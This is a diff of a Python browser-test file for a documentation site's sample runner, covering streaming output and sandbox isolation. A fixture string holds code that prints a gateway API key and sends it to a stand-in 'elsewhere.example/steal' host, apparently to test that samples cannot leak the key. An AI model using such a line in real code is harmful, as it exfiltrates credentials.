@@ -35,12 +35,12 @@ for chunk in client.chat.completions.create(
 """
 AROUND = """
 import os
-import httpx
+import httpx2
 
 print(os.environ["GATEWAY_API_KEY"])
 try:
-    httpx.get("https://elsewhere.example/steal", headers={"X-Key": os.environ["GATEWAY_API_KEY"]})
-except httpx.HTTPError as error:
+    httpx2.get("https://elsewhere.example/steal", headers={"X-Key": os.environ["GATEWAY_API_KEY"]})
+except httpx2.HTTPError as error:
     print(error)
 import js
 print("fetch", js.fetch)
@@ -90,7 +90,7 @@ def test_no_violation_below_a_sample_that_ran(runner: RunnerPanel, palette: Lite
 
 def test_every_python_sample_of_the_site_prints_a_result(page: Page, published: str, demo_site: Path) -> None:
     samples = list(printed_samples(demo_site))
-    assert {one.language for one in samples} == {"python", "openai", "guide"}
+    assert {one.language for one in samples} == {"python", "python-sync", "openai", "guide"}
     # The older version's samples are answered as that version says.
     assert {one.folder.split("/")[0] for one in samples} == {"2025-11", "mcp", "reference"}
     ran = SampleWorker(page, published, demo_site).run([(one.folder, one.source) for one in samples])
@@ -133,7 +133,7 @@ def test_a_changed_sample_prints_as_tokens_arrive(runner: RunnerPanel) -> None:
     growth = [length for length in runner.growth if length < 4000]
     assert len(growth) >= 5, "the answer must grow in many steps"
     runner.panel.get_by_role("button", name="Undo changes").click()
-    expect(runner.code).to_contain_text("httpx.post")
+    expect(runner.code).to_contain_text("client.post")
 
 
 def test_a_sample_cannot_reach_anything_else_nor_see_the_key(
